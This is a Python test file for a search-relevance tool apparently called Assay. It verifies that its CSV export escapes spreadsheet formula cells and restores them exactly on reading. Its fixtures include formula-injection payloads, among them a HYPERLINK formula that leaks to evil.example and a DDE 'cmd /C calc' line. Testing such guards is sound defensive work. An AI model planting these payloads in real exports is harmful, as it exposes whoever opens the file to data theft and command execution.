"""Every CSV Assay writes goes through the one writer (assay.problems.csv_text), `assay convert --to
quepid-csv` and `--to srw-csv` included: no written cell starts a spreadsheet formula, and Assay's own
reader takes the guard off again, so a hostile text round-trips exactly (docs/cli.md, "CSV cells")."""

from __future__ import annotations

import ast
import csv
import io
import json
from pathlib import Path

import pytest

from assay.cli import main
from assay.golden.format import load
from assay.problems import spreadsheet_cell, spreadsheet_text
from tests.support.processes import REPO

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
HOSTILE_TEXTS = [
    '=HYPERLINK("http://evil.example/?leak","open")',
    "@SUM(A1:A2)",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "'=a text that starts with a quote already",
    "''@two quotes",
    "refund policy",  # a plain one beside them
]
HOSTILE_IDS = ["=1+1", "@d2", "-d3", "+d4", "'=d5", "d6"]


@pytest.fixture
def golden_file(tmp_path: Path) -> Path:
    queries = [
        {
            "id": f"q-{n:04d}",
            "text": text,
            "locale": "en-US",
            "filters": {},
            "judgments": [{"doc_id": doc_id, "grade": n % 4} for doc_id in HOSTILE_IDS],
        }
        for n, text in enumerate(HOSTILE_TEXTS, start=1)
    ]
    path = tmp_path / "golden.json"
    path.write_text(json.dumps({"version": "v1", "k": 10, "queries": queries}))
    return path


@pytest.mark.parametrize("fmt", ["quepid-csv", "srw-csv"])
def test_a_hostile_text_is_written_as_text_and_read_back_as_it_was(
    fmt: str, golden_file: Path, tmp_path: Path
) -> None:
    written = tmp_path / f"out.{fmt}"
    assert main(["convert", "--from", "golden", "--to", fmt, str(golden_file), str(written)]) == 0

    rows = list(csv.reader(io.StringIO(written.read_text(), newline="")))
    cells = [cell for row in rows[1:] for cell in row]
    assert not [cell for cell in cells if cell.startswith(FORMULA_START)]
    assert '\'=HYPERLINK("http://evil.example/?leak","open")' in cells and "'@d2" in cells
    assert "''=a text that starts with a quote already" in cells  # one more quote, taken off on reading

    back = tmp_path / "back.json"
    assert main(["convert", "--from", fmt, "--to", "golden", str(written), str(back)]) == 0
    read = load(back)
    assert [q.text for q in read.queries] == HOSTILE_TEXTS
    assert {doc_id for q in read.queries for doc_id in q.grades} == set(HOSTILE_IDS)


@pytest.mark.parametrize("text", [*HOSTILE_TEXTS, *HOSTILE_IDS, "-0.5", "+3", "'", "''", "'x", "\t=1", ""])
def test_the_guard_is_undone_exactly(text: str) -> None:
    assert spreadsheet_text(spreadsheet_cell(text)) == text


def _writes_csv(path: Path) -> bool:
    tree = ast.parse(path.read_text(), filename=str(path))
    return any(
        isinstance(node, ast.Attribute) and node.attr in ("writer", "DictWriter") and _is_csv(node.value)
        for node in ast.walk(tree)
    )


def _is_csv(node: ast.expr) -> bool:
    return isinstance(node, ast.Name) and node.id == "csv"


def test_every_csv_the_project_writes_goes_through_the_one_writer() -> None:
    """`csv.writer` appears in assay/problems.py only (the tests' own files aside)."""
    sources = [
        path
        for path in REPO.rglob("*.py")
        if not {".venv", "tests", "node_modules", "var"}.intersection(path.relative_to(REPO).parts)
    ]
    writers = sorted(str(path.relative_to(REPO)) for path in sources if _writes_csv(path))
    assert writers == ["assay/problems.py"]
